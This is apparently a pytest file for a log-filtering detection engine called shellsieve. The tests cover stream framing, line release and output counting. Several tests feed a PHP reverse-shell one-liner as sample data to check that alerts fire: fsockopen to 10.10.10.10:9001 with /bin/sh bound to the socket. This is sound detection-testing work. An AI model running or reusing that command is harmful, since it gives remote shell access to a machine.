"""The I/O-free engine: streams share one engine, keep their own framing, and `released` counts the
input lines whose output has left, in input order (what serve's acknowledgements wait on)."""

from __future__ import annotations

import msgspec

from shellsieve.compile.ruleset import Ruleset
from shellsieve.noise import process_event
from shellsieve.run.engine import Engine
from shellsieve.settings import Settings

from format_samples import Exec, audit_exec

PHP_SHELL = "php -r '$s=fsockopen(\"10.10.10.10\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"


def _event(i: int, args: list[str]) -> bytes:
    return msgspec.json.encode(process_event(i, args[0], args, ("bash", "/usr/bin/bash"), ("root", "0"), "/tmp"))


def _lines(out: bytes) -> list[dict]:
    return [msgspec.json.decode(x) for x in out.splitlines()]


class TestStreams:
    def test_two_streams_never_join_each_others_partial_lines(self, shipped: Ruleset) -> None:
        """A line cut across reads on one stream is completed by that stream's bytes only."""
        engine = Engine(shipped, Settings(stats_interval_s=0))
        a, b = engine.stream(), engine.stream()
        ev_a, ev_b = _event(1, ["ls", "-la"]), _event(2, ["id"])
        out = a.feed(ev_a[:20], 0.0) + b.feed(ev_b + b"\n", 0.0) + a.feed(ev_a[20:] + b"\n", 0.0)
        assert out == ev_b + b"\n" + ev_a + b"\n"
        assert (a.lines_in, b.lines_in) == (1, 1)

    def test_alert_on_one_stream_sees_the_shared_rules(self, shipped: Ruleset) -> None:
        """Each stream runs the same compiled rules: a reverse shell alerts whichever stream it came on."""
        engine = Engine(shipped, Settings(stats_interval_s=0))
        args = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']
        docs = _lines(engine.stream().feed(_event(3, args) + b"\n", 0.0))
        assert docs[0]["event"]["kind"] == "alert"
        assert engine.stats.alerts == 1

    def test_close_gives_the_last_line_its_newline(self, shipped: Ruleset) -> None:
        """A stream ending without a newline still forwards its last line, once."""
        engine = Engine(shipped, Settings(stats_interval_s=0))
        s = engine.stream()
        assert s.feed(b"whoami", 0.0) == b""
        assert _lines(s.close(0.0)) == [{"message": "whoami"}]
        assert engine.stats.unterminated_last_line == 1

    def test_a_torn_last_line_is_marked_partial(self, shipped: Ruleset) -> None:
        """A stream cut off mid-line (a reset connection) forwards the fragment as a partial line."""
        engine = Engine(shipped, Settings(stats_interval_s=0))
        s = engine.stream()
        s.feed(b'{"process": {"name"', 0.0)
        assert _lines(s.close(0.0, torn=True)) == [{"message": '{"process": {"name"'}]
        assert engine.stats.malformed["partial_line"] == 1


class TestReleased:
    def test_every_line_is_released_once_in_order(self, shipped: Ruleset) -> None:
        """ECS, text and malformed lines are all released as their output leaves."""
        engine = Engine(shipped, Settings(stats_interval_s=0))
        s = engine.stream()
        s.feed(_event(1, ["ls"]) + b"\nwhoami\n{bad json\n" + _event(2, ["id"]) + b"\n", 0.0)
        assert engine.released == engine.stats.lines_in == 4

    def test_a_held_auditd_event_holds_back_what_follows(self, shipped: Ruleset) -> None:
        """Lines behind an auditd event waiting for its EOE are not released until it leaves."""
        engine = Engine(shipped, Settings(stats_interval_s=0, audit_timeout_s=0.5))
        s = engine.stream()
        records = audit_exec(Exec(("id",), "/usr/bin/id"), eoe=False)
        out = s.feed(("\n".join(records) + "\n").encode() + _event(1, ["ls"]) + b"\n", 0.0)
        assert out == b"" and engine.released == 0
        assert engine.deadline() is not None
        out = engine.tick(1.0)  # past the audit timeout
        assert len(out.splitlines()) == len(records) + 1
        assert engine.released == engine.stats.lines_in == len(records) + 1

    def test_an_over_long_line_is_released_with_its_newline(self, shipped: Ruleset) -> None:
        """An over-long line's pieces leave as they come; the line counts as released at its end."""
        engine = Engine(shipped, Settings(stats_interval_s=0, max_line_bytes=100))
        s = engine.stream()
        first = s.feed(b"x" * 300, 0.0)
        assert first and s.passing
        assert engine.stats.lines_in == 1 and engine.released == 0
        out = first + s.feed(b"yy\nwhoami\n", 0.0)
        assert out == b"x" * 300 + b'yy\n{"message":"whoami"}\n' and not s.passing
        assert engine.released == 2

    def test_only_alerts_releases_dropped_lines(self, shipped: Ruleset) -> None:
        """Under --only-alerts a line with no output is still released (its acknowledgement is due)."""
        engine = Engine(shipped, Settings(stats_interval_s=0, only_alerts=True))
        out = engine.stream().feed(_event(1, ["ls"]) + b"\nwhoami\n", 0.0)
        assert out == b"" and engine.released == 2 and engine.stats.dropped == 2


class TestLinesOut:
    """`Stream.lines_out`: the lines a feed returned, given only where they need no count (the loop
    then writes them uncounted); a wrong figure would make events_out disagree with stdout."""

    def test_ecs_blocks_give_their_count_exactly(self, shipped: Ruleset) -> None:
        engine = Engine(shipped, Settings(stats_interval_s=0))
        s = engine.stream()
        args = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']
        out = s.feed(b"".join(_event(i, ["ls"] if i % 3 else args) + b"\n" for i in range(50)) + b'{"a":', 0.0)
        assert s.lines_out == out.count(b"\n") == 50 and engine.stats.alerts == 17
        out = s.feed(b'1}\n{"b":2}\n', 0.0)  # the line begun before, completed
        assert s.lines_out == out.count(b"\n") == 2

    def test_lines_read_one_by_one_are_counted(self, shipped: Ruleset) -> None:
        """A block the router reads line by line (a text line, bad JSON among ECS) gives no count."""
        engine = Engine(shipped, Settings(stats_interval_s=0))
        s = engine.stream()
        out = s.feed(_event(1, ["ls"]) + b"\nwhoami\n{bad json\n", 0.0)
        assert s.lines_out is None and out.count(b"\n") == 3
        out = s.feed(_event(2, ["id"]) + b"\n", 0.0)  # the next ECS block goes whole again
        assert s.lines_out == out.count(b"\n") == 1

    def test_held_or_passing_lines_are_counted_instead(self, shipped: Ruleset) -> None:
        """Behind a held auditd event, or with an over-long line's piece, the output is counted."""
        engine = Engine(shipped, Settings(stats_interval_s=0, audit_timeout_s=0.5))
        s = engine.stream()
        records = audit_exec(Exec(("id",), "/usr/bin/id"), eoe=False)
        s.feed(("\n".join(records) + "\n").encode(), 0.0)
        out = s.feed(_event(1, ["ls"]) + b"\n", 0.0)  # waits behind the auditd event: nothing leaves yet
        assert out == b"" and s.lines_out is None
        engine = Engine(shipped, Settings(stats_interval_s=0, max_line_bytes=100))
        s = engine.stream()
        out = s.feed(b"x" * 300 + b"\n" + _event(1, ["ls"]) + b"\n", 0.0)
        assert s.lines_out is None and out.count(b"\n") == 2
